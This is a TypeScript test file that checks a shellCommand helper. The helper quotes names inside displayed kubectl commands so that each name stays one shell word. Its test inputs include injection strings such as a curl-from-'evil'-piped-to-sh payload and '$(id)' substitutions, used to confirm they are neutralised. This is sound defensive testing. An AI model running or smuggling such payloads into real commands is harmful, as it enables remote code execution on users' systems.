// Commands that are shown for copying, in a real shell, with names that somebody made for it.
import { execFileSync } from "node:child_process";
import * as fc from "fast-check";
import { expect, it } from "vitest";
import { shellCommand } from "./messages.ts";

/** The words that the shell makes of a command, which is not run. */
function wordsOf(command: string): readonly string[] {
  const words = execFileSync("sh", ["-c", `printf '%s\\0' ${command}`], { encoding: "utf8" });
  return words.split("\0").slice(0, -1);
}

it.each(["shop", "jwks; curl http://evil | sh #", "$(id)", "`id`", "it's", "a b", "*", "~", "a\\", "#", "", '"'])("takes %j as one word", (name) => {
  expect(wordsOf(shellCommand`kubectl get configmap ${name} ${["-n", name]} -o yaml`)).toEqual([
    "kubectl",
    "get",
    "configmap",
    name,
    "-n",
    name,
    "-o",
    "yaml",
  ]);
  expect(wordsOf(shellCommand`kubectl annotate x ${name}=${name}`)).toEqual(["kubectl", "annotate", "x", `${name}=${name}`]);
});

it("takes any text as one word, and shows no control character", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme" }), (text) => {
      // oxlint-disable-next-line no-control-regex -- they are what it is about
      const visible = text.replaceAll(/[\u0000-\u001f\u007f-\u009f]/g, "?");
      expect(wordsOf(shellCommand`get ${text}`)).toEqual(["get", visible]);
    }),
    { numRuns: 50 },
  );
});

it("leaves what needs no quotes as people type it, and no gap where there is nothing", () => {
  expect(shellCommand`kubectl get jwksconfigs.keyturn.io tokens ${["-n", "shop"]} -o yaml`).toBe(
    "kubectl get jwksconfigs.keyturn.io tokens -n shop -o yaml",
  );
  expect(shellCommand`keyturn diff ${[]}`).toBe("keyturn diff");
  expect(shellCommand`kubectl get x ${[]} -o yaml`).toBe("kubectl get x -o yaml");
});
